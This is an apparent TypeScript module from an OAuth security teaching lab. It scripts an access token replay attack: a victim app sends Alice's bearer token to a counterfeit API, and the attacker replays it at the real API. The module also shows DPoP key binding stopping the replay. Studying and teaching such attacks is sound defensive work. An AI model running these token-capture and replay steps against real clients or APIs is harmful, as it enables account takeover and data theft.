/**
 * Access token replay: a bearer token works for whoever holds it. A client tricked into sending
 * its token to a counterfeit API hands the attacker the victim's access. With DPoP the token is
 * bound to a key the app cannot even read out itself, and the real API refuses the replay.
 * @see [RFC 9700 §4.10](https://www.rfc-editor.org/rfc/rfc9700#section-4.10)
 * @see [RFC 9449](https://www.rfc-editor.org/rfc/rfc9449)
 */
import * as oauth from 'oauth4webapi'
import { bindingValues } from '../flows/dpop-support.ts'
import { rfc } from '../shared/spec-links.ts'
import { AttackStopped, attackActors, defineAttack, type ShownToken } from './attack-model.ts'
import {
  callApi,
  callbackUri,
  discoverServer,
  publicClient,
  redeemCode,
  stolenToken,
  via,
  victimSignsIn,
  waitForAttackerRecord,
  withDpopNonceRetry,
} from './lab-client.ts'

const attackId = 'access-token-replay'
/** Bearer tokens, with the defence off. */
const bearerApp = publicClient('grantlab-lab-spa')
/** The same app with DPoP, with the defence on: its client record requires proofs and nonces. */
const dpopApp = publicClient('grantlab-lab-dpop')
const scope = 'profile email orders:read'
const apiPath = '/api/profile'

/** What a resource's refusal said: status, error and description from its challenge. */
function challengeOf(error: unknown): string {
  if (error instanceof oauth.WWWAuthenticateChallengeError) {
    const first = error.cause[0]
    const code = first?.parameters.error ?? '(no error code)'
    const description = first?.parameters.error_description
    return `${error.status} ${code}${description ? `: ${description}` : ''}`
  }
  return error instanceof Error ? error.message : String(error)
}

/** The challenge in a plain response's WWW-Authenticate header (RFC 9449 §7.1). */
function challengeIn(response: Response): { error?: string; description?: string } {
  const header = response.headers.get('www-authenticate') ?? ''
  const error = /error="([^"]*)"/.exec(header)?.[1]
  const description = /error_description="([^"]*)"/.exec(header)?.[1]
  return { ...(error ? { error } : {}), ...(description ? { description } : {}) }
}

async function publicJwkOf(key: CryptoKeyPair): Promise<{ [member: string]: string }> {
  const { kty, crv, x, y } = await crypto.subtle.exportKey('jwk', key.publicKey)
  return { kty: String(kty), crv: String(crv), x: String(x), y: String(y) }
}

export const accessTokenReplayAttack = defineAttack({
  id: attackId,
  title: 'Access token replay',
  goal: 'Use the victim’s access token at the real API, after getting the client to show it to a counterfeit one.',
  summary:
    'Alice’s app is tricked into calling an API that belongs to the attacker (a look-alike address in its settings, a compromised service it trusts). It sends Alice’s access token along, as it does to every API. The attacker replays the token at the real API, which cannot tell who sends it, unless the token is bound to a key only the app holds.',
  specs: [rfc(9700, '4.10'), rfc(9700, '4.9.1'), rfc(6750, '5.2'), rfc(9449)],
  actors: [
    attackActors.victim,
    attackActors.client,
    attackActors.as,
    attackActors.attacker,
    attackActors.rs,
  ],
  defence: {
    label: 'Defence: DPoP-bound access token',
    explanation:
      'The app makes a key pair whose private key no script can read out, and signs a fresh proof with it for every request: the method, the address, and (at an API) a hash of the token. The server binds the token to the key (its cnf.jkt claim names the key’s thumbprint, RFC 9449 §6.1), and the real API takes it only with a proof from that key. The proof the counterfeit API received names the counterfeit address; the attacker cannot sign one for the real API without the key.',
    spec: rfc(9449, '7'),
    side: 'client',
    whenOff: 'The app (grantlab-lab-spa) asks for a plain bearer token, as most clients do.',
  },
  clients: [
    {
      clientId: 'grantlab-lab-spa',
      when: 'defence-off',
      note: 'A public, first-party app with bearer tokens; the server is not weakened for it.',
    },
    {
      clientId: 'grantlab-lab-dpop',
      when: 'defence-on',
      note: 'The same app with DPoP: every token request must carry a proof, with the server’s nonce.',
    },
  ],
  steps: [
    {
      id: 'victim-signs-in',
      label: 'alice signs in, app gets a token',
      title: 'Alice signs in; the app gets an access token',
      from: 'victim',
      to: 'as',
      kind: 'redirect',
      spec: rfc(6749, '4.1'),
      explanation:
        'A normal login with PKCE. With the defence off, the app receives a bearer access token. With it on, the app first makes an ES256 key pair with a non-extractable private key, and its token request carries a DPoP proof; the server asks for its nonce first (use_dpop_nonce, RFC 9449 §8), the app retries with it, and gets a token of type DPoP whose cnf.jkt names the key.',
    },
    {
      id: 'client-calls-counterfeit',
      label: 'GET /attacker/api (token)',
      title: 'The app calls the counterfeit API with Alice’s token',
      from: 'client',
      to: 'attacker',
      kind: 'request',
      spec: rfc(9700, '4.9.1'),
      explanation:
        'The app believes the address is an API it may call, and sends the token in the Authorization header; with DPoP, also a proof signed for this request only (htm GET, htu the counterfeit address, ath the token’s hash, RFC 9449 §4.2). The counterfeit API answers like an API and keeps both headers.',
    },
    {
      id: 'attacker-replays',
      label: `GET ${apiPath} (stolen token)`,
      title: 'The attacker replays the token at the real API',
      from: 'attacker',
      to: 'rs',
      kind: 'request',
      spec: rfc(6750, '5.2'),
      explanation:
        'A bearer token is accepted from whoever presents it: the API checks the signature, the issuer, the audience, the expiry and the scope, all fine, the token is genuine. A DPoP-bound token is another matter. Sent as a bearer token it is refused (RFC 9449 §7.2). With the proof the counterfeit API kept, it is refused for the proof’s address (htu, §4.3). With a valid proof from a key of the attacker’s own, even after fetching the server’s nonce (nonces are no secret), it is refused because that key is not the one in cnf.jkt (§7.1).',
    },
  ],
  async run(ctx) {
    const app = ctx.defence ? dpopApp : bearerApp
    const redirectUri = callbackUri(ctx.appOrigin, attackId)
    const since = ctx.now()
    // The app's key lives as long as this run, in memory; non-extractable, as in the DPoP
    // walkthrough (docs/decisions/103): the page can sign with it, nobody can read it out.
    const key = ctx.defence
      ? await oauth.generateKeyPair('ES256', { extractable: false })
      : undefined
    const dpop = key ? oauth.DPoP(app.client, key) : undefined

    const tokens = await ctx.step('victim-signs-in', async (s) => {
      const as = await discoverServer(s, ctx.issuer)
      const signedIn = await victimSignsIn(ctx.victim, s, as, {
        clientId: app.client.client_id,
        redirectUri,
        scope,
      })
      if (!key || !dpop) {
        const tokens = await redeemCode(s, as, app, signedIn, redirectUri)
        s.token(stolenToken('Alice’s access token', tokens.access_token))
        s.summary(`The app holds a ${tokens.token_type} access token for Alice.`)
        return tokens
      }
      // The code is not spent by the nonce refusal (docs/decisions/100): the retry redeems it.
      const { result: tokens, nonceChallenge } = await withDpopNonceRetry(() =>
        redeemCode(s, as, app, signedIn, redirectUri, dpop),
      )
      const binding = await bindingValues(tokens.access_token, await publicJwkOf(key))
      s.show({
        label: 'Private key extractable',
        value: String(key.privateKey.extractable),
        note: 'WebCrypto will not export it: the app can only sign with it.',
        spec: rfc(9449, '11.4'),
      })
      s.show({
        label: 'First answer of the token endpoint',
        value: nonceChallenge ?? 'tokens (the server did not ask for a nonce this time)',
        note: 'The server wants its own nonce in this client’s proofs; the retry carried it.',
        spec: rfc(9449, '8'),
      })
      s.show({ label: 'token_type', value: tokens.token_type })
      for (const value of binding.values) s.show(value)
      s.token({
        ...stolenToken('Alice’s access token (DPoP-bound)', tokens.access_token),
        signatureNote: 'For the API to check. Its cnf claim names the key it is bound to.',
      })
      if (!binding.bound || tokens.token_type !== 'dpop') {
        throw new Error('The server issued a token that is not bound to the app’s key.')
      }
      s.summary('The app holds a DPoP access token for Alice, bound to its key.')
      return tokens
    })

    const stolen = await ctx.step('client-calls-counterfeit', async (s) => {
      const counterfeit = new URL('/attacker/api/profile', ctx.attackerOrigin)
      const scheme = dpop ? 'DPoP' : 'Bearer'
      if (dpop) {
        await oauth.protectedResourceRequest(
          tokens.access_token,
          'GET',
          counterfeit,
          undefined,
          undefined,
          { ...via(s), DPoP: dpop },
        )
      } else {
        await callApi(s, ctx.attackerOrigin, counterfeit.pathname, tokens.access_token)
      }
      const record = await waitForAttackerRecord(
        s,
        ctx.attackerOrigin,
        since,
        // This run's record (the lab knows the token it sent).
        (r) =>
          r.channel === 'api' && r.headers?.authorization === `${scheme} ${tokens.access_token}`,
      )
      const header = record.headers?.authorization ?? ''
      s.show({ label: 'The Authorization header the counterfeit API kept', value: header })
      const proof = record.headers?.dpop
      if (proof) {
        s.token({
          label: 'The DPoP proof the counterfeit API kept',
          value: proof,
          signature: 'not-checked',
          signatureNote:
            'Signed with the app’s key for one request only: GET at the counterfeit API’s address (htm, htu), with this token (ath).',
        } satisfies ShownToken)
      }
      s.summary(
        proof
          ? 'The attacker’s server kept Alice’s access token and the app’s proof for its own address.'
          : 'The attacker’s server kept Alice’s access token.',
      )
      return { token: header.replace(/^(Bearer|DPoP)\s+/i, ''), proof }
    })

    const profile = await ctx.step('attacker-replays', async (s) => {
      const api = new URL(apiPath, ctx.appOrigin)
      if (!ctx.defence) {
        const answer = await callApi(s, ctx.appOrigin, apiPath, stolen.token)
        if (answer.status !== 200) throw new Error(`The API refused the token (${answer.status}).`)
        s.show({ label: 'The API’s answer', value: JSON.stringify(answer.body), format: 'json' })
        s.summary('The real API accepted the stolen token from the attacker.')
        return answer.body
      }
      // 1. As a bearer token: a DPoP-bound token must be refused that way (RFC 9449 §7.2).
      const asBearer = await oauth
        .protectedResourceRequest(stolen.token, 'GET', api, undefined, undefined, via(s))
        .then(
          () => undefined,
          (error: unknown) => error,
        )
      if (asBearer === undefined) {
        throw new Error('The API accepted a DPoP-bound token sent as a bearer token.')
      }
      const bearerRefused = ctx.stopped(asBearer, {
        check: 'DPoP-bound token sent as Bearer',
        spec: rfc(9449, '7.2'),
        by: 'resource server',
        expected: { code: 'invalid_token', text: /bound to a DPoP key/ },
      })
      if (!(bearerRefused instanceof AttackStopped)) throw bearerRefused
      s.show({
        label: 'As a bearer token',
        value: challengeOf(asBearer),
        spec: rfc(9449, '7.2'),
      })
      // 2. With the proof the counterfeit API kept: signed for another address (§4.3 item 9).
      if (stolen.proof) {
        const response = await s.fetch(api.href, {
          headers: { authorization: `DPoP ${stolen.token}`, dpop: stolen.proof },
        })
        const refusal = challengeIn(response)
        if (response.ok) throw new Error('The API accepted a proof made for another address.')
        s.show({
          label: 'With the proof the counterfeit API kept',
          value: `${response.status} ${refusal.error ?? '(no error code)'}${refusal.description ? `: ${refusal.description}` : ''}`,
          spec: rfc(9449, '4.3'),
        })
      }
      // 3. With a valid proof from a key of the attacker's own, after the nonce challenge (§9).
      const attackerKey = await oauth.generateKeyPair('ES256')
      const attackerDpop = oauth.DPoP(app.client, attackerKey)
      const withOwnKey = await withDpopNonceRetry(() =>
        oauth.protectedResourceRequest(stolen.token, 'GET', api, undefined, undefined, {
          ...via(s),
          DPoP: attackerDpop,
        }),
      ).then(
        () => undefined,
        (error: unknown) => error,
      )
      if (withOwnKey === undefined) {
        throw new Error('The API accepted the token with a proof from another key.')
      }
      s.show({
        label: 'With a proof from the attacker’s own key (after the nonce retry)',
        value: challengeOf(withOwnKey),
        spec: rfc(9449, '7.1'),
      })
      s.show({
        label: 'Thumbprint of the attacker’s key',
        value: await attackerDpop.calculateThumbprint(),
        note: 'Not the cnf.jkt in the token: the proof is valid, but from the wrong key.',
      })
      throw ctx.stopped(withOwnKey, {
        check: 'DPoP key binding (cnf.jkt)',
        spec: rfc(9449, '7.1'),
        by: 'resource server',
        expected: {
          code: 'invalid_token',
          text: /made with another key than the one the access token is bound to/,
        },
      })
    })
    return {
      status: 'succeeded',
      summary:
        'The real API answered the attacker with Alice’s data: a bearer token works anywhere.',
      loot: {
        summary: 'Alice’s bearer access token, replayed by the attacker at the real API.',
        tokens: [stolenToken('Alice’s access token, as the attacker holds it', stolen.token)],
        values: [{ label: 'Alice’s profile', value: JSON.stringify(profile), format: 'json' }],
      },
    }
  },
})
